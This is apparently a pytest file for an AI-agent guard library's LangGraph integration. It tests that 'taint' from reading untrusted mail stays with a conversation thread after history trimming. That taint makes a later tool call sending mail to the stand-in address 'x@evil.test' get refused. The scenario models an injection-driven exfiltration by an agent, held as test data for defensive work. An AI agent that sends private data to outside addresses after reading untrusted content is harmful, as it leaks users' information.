"""The run's taint outlives the messages that carried it (I12, LangGraph).

A guarded ``ToolNode`` stamps its ToolMessages with the run's taint so a
graph resumed by a later request stays tainted. History trimming and
summarization (``RemoveMessage``) drop those messages; the taint must stay
with the conversation's thread: in the graph's store (shared by workers) or
in the process. Every route below ends with an e-mail to an outside address
after the mail was read and the history trimmed, in a new run without a
confirmation callback: it must be refused, and nothing sent.
"""

from __future__ import annotations

import asyncio
from typing import Any

import pytest
from langchain_core.messages import HumanMessage, RemoveMessage
from langchain_core.tools import tool
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.graph.message import REMOVE_ALL_MESSAGES
from langgraph.store.memory import InMemoryStore

from aiinvariants import Guard, ToolForbidden, acting_as
from aiinvariants.integrations import _langgraph_threads
from aiinvariants.integrations.langchain_tools import guard_tool
from aiinvariants.integrations.langgraph import guard_tool_node
from aiinvariants.taint import agent_run
from langgraph_support import (
    ALICE,
    AIMessage,
    Outbox,
    build_graph,
    call,
    guard,
    make_tools,
    turn,
)

TRIM = {
    "messages": [
        RemoveMessage(id=REMOVE_ALL_MESSAGES),
        HumanMessage("summary: the user read their mail"),
    ]
}


def cfg(thread: str) -> dict[str, Any]:
    return {"configurable": {"thread_id": thread}}


def _tools(g: Guard, outbox: Outbox) -> list[Any]:
    @tool
    def read_inbox(folder: str) -> str:
        """Read the user's mail (private, and untrusted content)."""
        return "mail: hi"

    return [
        *make_tools(outbox),
        guard_tool(g, read_inbox, data="internal", untrusted_output=True),
    ]


def _read_then_trim(g: Guard, outbox: Outbox, thread: str, **graph: Any) -> None:
    first = build_graph(
        [turn(call("read_inbox", {"folder": "in"}, "r1")), AIMessage("read")],
        guard_tool_node(g, _tools(g, outbox)),
        **graph,
    )
    with acting_as(ALICE), agent_run() as run:
        first.invoke({"messages": [HumanMessage("read my mail")]}, cfg(thread))
        assert run.tainted
    first.update_state(cfg(thread), TRIM)


def _send(g: Guard, outbox: Outbox, **graph: Any) -> Any:
    return build_graph(
        [
            turn(call("send_email", {"to": "x@evil.test", "body": "b"}, "e1")),
            AIMessage("done"),
        ],
        guard_tool_node(g, _tools(g, outbox)),
        **graph,
    )


def test_another_worker_sharing_the_store_keeps_the_threads_taint() -> None:
    # Two guards stand for two workers: only the checkpointer and the store
    # are shared, as with a database-backed deployment.
    outbox, saver, store = Outbox(), InMemorySaver(), InMemoryStore()
    _read_then_trim(guard(), outbox, "w", checkpointer=saver, store=store)
    assert store.get(_langgraph_threads.NAMESPACE, "w") is not None
    second = _send(guard(), outbox, checkpointer=saver, store=store)
    with acting_as(ALICE), agent_run(), pytest.raises(ToolForbidden) as info:
        second.invoke({"messages": [HumanMessage("now send it")]}, cfg("w"))
    assert info.value.code == "tainted_run_needs_confirmation"
    assert outbox.sent == []


def test_an_async_graph_keeps_the_threads_taint_in_its_store() -> None:
    outbox, saver, store = Outbox(), InMemorySaver(), InMemoryStore()
    g = guard()
    first = build_graph(
        [turn(call("read_inbox", {"folder": "in"}, "r1")), AIMessage("read")],
        guard_tool_node(g, _tools(g, outbox)),
        checkpointer=saver,
        store=store,
    )
    second = _send(guard(), outbox, checkpointer=saver, store=store)

    async def scenario() -> None:
        with acting_as(ALICE):
            async with agent_run():
                await first.ainvoke({"messages": [HumanMessage("read")]}, cfg("a"))
            await first.aupdate_state(cfg("a"), TRIM)
            async with agent_run():
                await second.ainvoke({"messages": [HumanMessage("send")]}, cfg("a"))

    with pytest.raises(ToolForbidden) as info:
        asyncio.run(scenario())
    assert info.value.code == "tainted_run_needs_confirmation"
    assert outbox.sent == []


def test_a_forged_store_entry_only_adds_taint_and_never_breaks_the_node() -> None:
    outbox, store = Outbox(), InMemoryStore()
    g = guard()
    # Junk of every shape under the thread's key: no crash, no untainting.
    store.put(_langgraph_threads.NAMESPACE, "f", {"private": "x", "untrusted": 5})
    saver = InMemorySaver()
    _read_then_trim(g, outbox, "f", store=store, checkpointer=saver)
    second = _send(g, outbox, checkpointer=saver, store=store)
    with acting_as(ALICE), agent_run(), pytest.raises(ToolForbidden) as info:
        second.invoke({"messages": [HumanMessage("now send it")]}, cfg("f"))
    assert info.value.code == "tainted_run_needs_confirmation"
    assert outbox.sent == []


def test_another_thread_is_not_tainted() -> None:
    # The taint belongs to the conversation that read the mail, not to every
    # conversation of the process: a clean thread sends unasked.
    outbox, saver = Outbox(), InMemorySaver()
    g = guard()
    _read_then_trim(g, outbox, "tainted", checkpointer=saver)
    second = _send(g, outbox, checkpointer=saver)
    with acting_as(ALICE), agent_run():
        second.invoke({"messages": [HumanMessage("send")]}, cfg("clean"))
    assert outbox.sent == [("x@evil.test", "b")]


def test_a_refused_step_still_keeps_the_taint_it_acquired() -> None:
    # The step reads the mail and then tries to send in the same turn: the
    # send is refused, and the taint of the read is kept for the thread even
    # though the step ended in an exception.
    outbox, saver = Outbox(), InMemorySaver()
    g = guard()
    graph = build_graph(
        [
            turn(
                call("read_inbox", {"folder": "in"}, "r1"),
            ),
            turn(call("send_email", {"to": "x@evil.test", "body": "b"}, "e1")),
            AIMessage("done"),
        ],
        guard_tool_node(g, _tools(g, outbox)),
        checkpointer=saver,
    )
    with acting_as(ALICE), agent_run(), pytest.raises(ToolForbidden):
        graph.invoke({"messages": [HumanMessage("read and send")]}, cfg("r"))
    graph.update_state(cfg("r"), TRIM)
    again = _send(g, outbox, checkpointer=saver)
    with acting_as(ALICE), agent_run(), pytest.raises(ToolForbidden) as info:
        again.invoke({"messages": [HumanMessage("send it")]}, cfg("r"))
    assert info.value.code == "tainted_run_needs_confirmation"
    assert outbox.sent == []


def test_the_process_keeps_a_bounded_number_of_threads(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(_langgraph_threads, "MAX_THREADS", 3)
    g = guard()
    with agent_run() as run:
        run.mark_untrusted("tool.read_inbox")
        for n in range(10):
            _langgraph_threads.remember(g, cfg(f"t{n}"), None)
    kept = _langgraph_threads._kept[g]
    assert list(kept) == ["t7", "t8", "t9"]
    assert kept["t9"]["untrusted"] == ("tool.read_inbox",)
